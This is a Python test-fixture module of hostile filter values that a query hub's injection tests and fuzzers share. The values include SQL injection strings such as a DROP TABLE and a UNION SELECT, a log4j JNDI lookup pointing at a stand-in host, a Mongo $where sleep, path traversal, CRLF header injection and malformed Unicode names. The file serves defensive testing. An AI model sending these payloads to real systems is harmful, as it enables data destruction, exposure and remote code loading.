"""Hostile filter values, shared by the injection tests of every backend and the fuzzers.

Each is a syntax some backend would interpret if a value were ever spliced into query
text: SQL (DuckDB), Lucene/tantivy and Elasticsearch query strings, JSON/Mongo
operators, URL query strings and paths, HTTP headers, log4j lookups; plus backslashes,
NUL and other control characters, bidi overrides, full-width letters and the longest
value the parser accepts; and `NAMES`, hostile strings where a name belongs (lone
surrogates, control characters). None occurs in the real IDC data, so every `=` on one selects
nothing and every `!=` selects what the reference evaluator says.
"""

from __future__ import annotations

from schema.filters import MAX_STRING

PAYLOADS = [
    "' OR 1=1 --",
    "' OR '1'='1",
    "'); DROP TABLE idc_raw; --",
    '"); DROP TABLE x; --',
    "x' UNION SELECT SeriesInstanceUID FROM idc_raw --",
    "? OR TRUE",
    "$1",
    "*:*",
    "*",
    "a OR b",
    "CT OR MR",
    "modality:CT",
    "collection:* AND NOT sex:male",
    "\\",
    "\\' OR 1=1 --",
    "${jndi:ldap://evil.test/a}",
    '{"$where": "sleep(1000)"}',
    '{"match_all": {}}',
    "%",
    "_",
    "CT&Modality=MR",
    "CT#fragment",
    "../../admin",
    "CT\r\nX-Injected: 1",
    "CT\x00",
    "\u202e\u0000'--",
    "ＣＴ",
    "x" * MAX_STRING,
]
"""Values the parser accepts: each must reach a backend only as a typed constant."""

REFUSED = [
    ({"$where": "1 == 1"}, "expected a string"),
    (["CT"], "expected a string"),
    (1, "expected a string"),
    (None, "expected a string"),
    ("x" * (MAX_STRING + 1), f"longer than {MAX_STRING} characters"),
]
"""Values the parser refuses for a keyword field, with the words of its FilterError."""


NAMES = [
    "nonexistent\ud800",  # a lone high surrogate: no UTF-8 encoder can write it
    "\udfff",
    "\ud83d",  # half of an emoji's surrogate pair
    "modality\x00",
    "modality\r\nX-Injected: 1",
    "\x1b[31mred\x1b[0m",  # terminal escape sequence
    "\u202emodality",  # right-to-left override
    "\u200bmodality",  # zero-width space
    "\ufeff",
    "\x7f\x85\u2028\u2029",
    "mod\\ality",
    "a.b[0]'\"",
    "",
    " ",
    "x" * (MAX_STRING + 1),
]
"""Strings where a name is expected (field, operator, sort and facet field, parameter
name, format, source, cohort id): none is a name the hub knows, so each is refused with a
clear 4xx or GraphQL error, and the message quoting it must still encode as UTF-8."""


def payload_id(value: object) -> str:
    text = repr(value)
    return text if len(text) <= 40 else f"{text[:30]}...({len(text)} chars)"
